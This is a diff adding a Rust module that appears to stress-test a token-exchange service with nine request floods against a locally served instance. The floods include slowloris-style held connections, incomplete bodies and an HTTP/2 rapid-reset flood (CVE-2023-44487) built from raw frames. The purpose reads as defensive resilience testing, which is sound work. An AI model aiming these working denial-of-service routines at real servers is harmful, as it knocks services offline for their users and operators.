@@ -1,0 +1,127 @@
+//! Floods of clients that have proved nothing.
+
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::thread;
+use std::time::Duration;
+
+use crate::clients::{ask, connect};
+use crate::served::{Served, form};
+
+/// The connections that ask again as soon as they are answered: more than are answered at a time.
+const ASKING: usize = 220;
+/// The connections that wait, of 1,024 that there is room for, and the threads that keep them.
+const WAITING: usize = 1_200;
+const KEEPERS: usize = 4;
+
+/// A flood.
+pub(crate) struct Flood {
+    pub(crate) name: &'static str,
+    pub(crate) threads: usize,
+    /// What each thread does until it is stopped; it counts what it sends.
+    pub(crate) run: fn(&Served, &AtomicBool, &AtomicU64),
+}
+
+pub(crate) const FLOODS: [Flood; 9] = [
+    Flood { name: "none", threads: 0, run: |_, _, _| {} },
+    Flood { name: "unsigned tokens", threads: ASKING, run: unsigned },
+    Flood { name: "unsigned tokens of an issuer that is silent", threads: ASKING, run: silent },
+    Flood { name: "runs that are not there", threads: ASKING, run: unknown_runs },
+    Flood { name: "readiness", threads: ASKING, run: readiness },
+    Flood { name: "connections that say nothing", threads: KEEPERS, run: nothing },
+    Flood { name: "connections that send a byte", threads: KEEPERS, run: a_byte },
+    Flood { name: "bodies that do not come", threads: KEEPERS, run: bodies },
+    Flood { name: "requests that are taken back (HTTP/2)", threads: KEEPERS, run: resets },
+];
+
+fn unsigned(served: &Served, stop: &AtomicBool, sent: &AtomicU64) {
+    again(served, &served.unsigned, stop, sent);
+}
+
+fn silent(served: &Served, stop: &AtomicBool, sent: &AtomicU64) {
+    again(served, &served.of_silent, stop, sent);
+}
+
+fn unknown_runs(served: &Served, stop: &AtomicBool, sent: &AtomicU64) {
+    let token = "urn:ietf:params:oauth:token-type:access_token";
+    let request = form("11111111-1111-4111-8111-111111111111", token, "a-token-of-no-run-at-all");
+    again(served, &request, stop, sent);
+}
+
+fn readiness(served: &Served, stop: &AtomicBool, sent: &AtomicU64) {
+    again(served, "GET /readyz HTTP/1.1\r\nhost: x\r\n\r\n", stop, sent);
+}
+
+fn nothing(served: &Served, stop: &AtomicBool, sent: &AtomicU64) {
+    wait(served, b"", stop, sent);
+}
+
+fn a_byte(served: &Served, stop: &AtomicBool, sent: &AtomicU64) {
+    wait(served, b"P", stop, sent);
+}
+
+fn bodies(served: &Served, stop: &AtomicBool, sent: &AtomicU64) {
+    let request = served.exchange.as_bytes();
+    wait(served, request.get(..request.len() - 1).unwrap_or_default(), stop, sent);
+}
+
+/// Asks again as soon as there is an answer, and on another connection where there is none.
+fn again(served: &Served, request: &str, stop: &AtomicBool, sent: &AtomicU64) {
+    let mut connection = None;
+    while !stop.load(Ordering::Relaxed) {
+        let Some(stream) = connection.get_or_insert_with(|| connect(served.address)) else {
+            connection = None;
+            continue;
+        };
+        sent.fetch_add(1, Ordering::Relaxed);
+        if ask(stream, request.as_bytes()).is_none() {
+            connection = None;
+        }
+    }
+}
+
+/// Keeps connections open that have sent so much, and opens others where some are closed.
+fn wait(served: &Served, begun: &[u8], stop: &AtomicBool, sent: &AtomicU64) {
+    let mut waiting: Vec<TcpStream> = Vec::new();
+    while !stop.load(Ordering::Relaxed) {
+        while waiting.len() < WAITING / KEEPERS && !stop.load(Ordering::Relaxed) {
+            let Some(mut stream) = connect(served.address) else { break };
+            if stream.write_all(begun).is_ok() && stream.set_nonblocking(true).is_ok() {
+                sent.fetch_add(1, Ordering::Relaxed);
+                waiting.push(stream);
+            }
+        }
+        // One that would block is still open.
+        waiting.retain_mut(|stream| {
+            stream
+                .read(&mut [0; 1024])
+                .is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock)
+        });
+        thread::sleep(Duration::from_millis(10));
+    }
+}
+
+/// Sends requests over HTTP/2 and takes them back at once (CVE-2023-44487), a connection after the other.
+fn resets(served: &Served, stop: &AtomicBool, sent: &AtomicU64) {
+    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
+        let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
+        let (_, length) = length.split_at(1);
+        [length, &[kind, flags], &stream.to_be_bytes(), payload].concat()
+    };
+    // `GET / http x`, compressed (RFC 7541 appendix A).
+    let head = [0x82, 0x86, 0x84, 0x41, 0x01, b'x'];
+    let mut flood = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    flood.extend(frame(4, 0, 0, &[]));
+    for stream in (1..2000).step_by(2) {
+        flood.extend(frame(1, 5, stream, &head));
+        flood.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
+    }
+    while !stop.load(Ordering::Relaxed) {
+        let Some(mut stream) = connect(served.address) else { continue };
+        sent.fetch_add(1, Ordering::Relaxed);
+        if stream.write_all(&flood).is_ok() {
+            let _ = std::io::copy(&mut stream, &mut std::io::sink());
+        }
+    }
+}
